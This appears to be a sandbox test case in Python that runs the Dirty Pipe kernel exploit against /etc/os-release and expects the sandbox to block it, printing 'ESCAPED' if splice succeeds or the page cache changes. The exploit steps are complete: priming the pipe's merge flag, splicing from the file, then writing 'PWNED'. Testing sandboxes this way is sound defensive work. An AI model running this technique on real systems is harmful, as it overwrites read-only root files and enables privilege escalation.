# hostile: Dirty Pipe in full: splice a rootfs file into a pipe and overwrite its page cache
# expect: exit=0 stdout="OK\n"
import os
target = "/etc/os-release"
before = open(target, "rb").read()
r, w = os.pipe()
# prime the pipe so every buffer has PIPE_BUF_FLAG_CAN_MERGE, then drain it
os.write(w, b"x" * 65536); os.read(r, 65536)
fd = os.open(target, os.O_RDONLY)
try:
    os.splice(fd, w, 1, offset_src=0)
    os.write(w, b"PWNED")
    print("ESCAPED: splice allowed")
except OSError as e:
    if e.errno != 1:
        print("unexpected", e)
os.close(fd)
if open(target, "rb").read() != before:
    print("ESCAPED: the page cache of", target, "changed")
print("OK")
